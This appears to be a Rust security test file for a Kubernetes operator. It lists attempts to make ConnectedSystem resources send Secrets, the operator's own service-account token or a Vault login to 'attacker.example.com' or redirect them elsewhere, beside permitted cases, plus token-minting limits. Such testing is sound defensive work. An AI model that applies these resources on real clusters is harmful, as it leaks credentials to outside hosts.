//! Connected systems: nobody has a credential sent that he could not use himself.

use serde_json::{Value, json};

use super::{
    call::Call,
    ground::Who::*,
    shapes::*,
    table::{Plan, Table},
};

/// A Secret of the operator's namespace that [`super::ground::Who::Platform`] may read.
pub const SHARED: &str = "shared";

fn systems() -> String {
    "/apis/leasehold.dev/v1alpha1/connectedsystems".to_owned()
}

fn http(name: &str, auth: Option<Value>) -> Value {
    let mut http = json!({"url": "https://attacker.example.com"});
    if let Some(auth) = auth {
        http["auth"] = auth;
    }
    system(name, json!({"type": "HTTP", "http": http}))
}

fn system(name: &str, mut spec: Value) -> Value {
    spec["namespaces"] = json!({"from": "All"});
    spec["operations"] = json!([{"name": "ping", "method": "GET", "path": "'/'"}]);
    json!({"apiVersion": "leasehold.dev/v1alpha1", "kind": "ConnectedSystem", "metadata": {"name": name}, "spec": spec})
}

fn by_header(secret: &str) -> Option<Value> {
    Some(json!({"type": "Header", "header": {"name": "X-Key", "secretRef": {"name": secret, "key": "k"}}}))
}

fn by_basic(secret: &str) -> Option<Value> {
    Some(json!({"type": "Basic", "basic": {"secretRef": {"name": secret}}}))
}

fn by_own_token() -> Option<Value> {
    Some(json!({"type": "ServiceAccountToken", "serviceAccountToken": {"audience": "attacker"}}))
}

fn write(auth: Option<Value>) -> Call {
    Call::post(systems(), http(&fresh("system"), auth))
}

fn vault() -> Call {
    let kubernetes = json!({"role": "r", "audience": "attacker"});
    let auth = json!({"type": "Kubernetes", "kubernetes": kubernetes});
    let vault = json!({"url": "https://attacker.example.com", "mount": "secret", "auth": auth});
    Call::post(systems(), system(&fresh("system"), json!({"type": "Vault", "vault": vault})))
}

/// Acts on a system that the administrator has just written.
fn on_written(auth: Option<Value>, patch: Value) -> Plan {
    let name = fresh("system");
    Call::patch(format!("{}/{name}", systems()), patch).after(Admin, Call::post(systems(), http(&name, auth)))
}

fn elsewhere() -> Value {
    json!({"spec": {"http": {"url": "https://elsewhere.example.com"}}})
}

pub fn author() -> Table {
    Table::of("leasehold-system-author")
        .attack("20", Platform, "has a Secret sent that it may not read", |_| write(by_header("private")))
        .attack("20", Platform, "the same as user name and password", |_| write(by_basic("private")))
        .attack("20", Platform, "has the operator's own token sent", |_| write(by_own_token()))
        .attack("20", Platform, "has the operator log in to a Vault of its own", |_| vault())
        .attack("20", Platform, "leads a system with a Secret elsewhere", |_| {
            on_written(by_header("private"), elsewhere())
        })
        .attack("20", Platform, "leads a system with the operator's token elsewhere", |_| {
            on_written(by_own_token(), elsewhere())
        })
        .attack("20", Platform, "puts another Secret into a system", |_| {
            on_written(by_basic(SHARED), json!({"spec": {"http": {"auth": by_basic("private")}}}))
        })
        .lawful(Platform, "has a Secret sent that it may read", |_| write(by_header(SHARED)))
        .lawful(Platform, "leads a system with such a Secret elsewhere", |_| on_written(by_basic(SHARED), elsewhere()))
        .lawful(Platform, "a system that needs no credential", |_| write(None))
        .lawful(Platform, "labels a system with a Secret it may not read", |_| {
            on_written(by_header("private"), json!({"metadata": {"labels": {"a": "b"}}}))
        })
        .lawful(Admin, "every kind of credential", |_| write(by_own_token()))
        .lawful(Admin, "a Vault", |_| vault())
}

/// The operator's own tokens: short, and of its own account.
pub fn own_token() -> Table {
    let mint = |account: &str, seconds| {
        Call::post(core(SYSTEM, &format!("serviceaccounts/{account}/token")), token_request(seconds, &["vault"]))
    };
    Table::of("leasehold-own-token")
        .attack("3", Operator, "mints a long token of its own account", move |_| mint("leasehold", 3600))
        .attack("3", Operator, "mints for another account of its namespace", move |_| mint("default", 600))
        .lawful(Operator, "proves to another system who it is", move |_| mint("leasehold", 600))
        .lawful(Admin, "mints for the operator, as the kubelet does", move |_| mint("leasehold", 3600))
}
